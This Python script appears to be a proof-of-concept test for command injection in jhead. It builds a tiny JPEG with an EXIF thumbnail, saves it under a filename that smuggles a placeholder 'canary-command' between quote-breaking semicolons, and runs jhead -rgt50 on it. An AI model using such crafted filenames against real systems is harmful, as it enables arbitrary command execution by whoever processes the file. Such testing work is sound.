"""A photograph whose name holds a shell command, given to jhead -rgt."""
import struct
import subprocess

SHORT, LONG = 3, 4


def entry(tag, kind, value):
    return struct.pack("<HHII", tag, kind, 1, value)


def directory(entries, following):
    return struct.pack("<H", len(entries)) + b"".join(entries) + struct.pack("<I", following)


thumbnail = b"\xff\xd8\xff\xd9"
first = directory([entry(0x0112, SHORT, 1)], 8 + 2 + 12 + 4)
start = 8 + len(first) + 2 + 3 * 12 + 4
second = directory(
    [entry(0x0103, SHORT, 6), entry(0x0201, LONG, start), entry(0x0202, LONG, len(thumbnail))], 0)
exif = b"Exif\0\0" + b"II*\0" + struct.pack("<I", 8) + first + second + thumbnail
frame = struct.pack(">BHHB", 8, 1, 1, 1) + b"\x01\x11\x00"
scan = b"\x01\x01\x00\x00\x3f\x00"
picture = (b"\xff\xd8"
           + b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif
           + b"\xff\xc0" + struct.pack(">H", len(frame) + 2) + frame
           + b"\xff\xda" + struct.pack(">H", len(scan) + 2) + scan
           + b"\x00" + b"\xff\xd9")

name = 'holiday";canary-command;".jpg'
with open(name, "wb") as file:
    file.write(picture)
done = subprocess.run(["/src/jhead", "-rgt50", name], stdin=subprocess.DEVNULL)
print("jhead ended with", done.returncode)
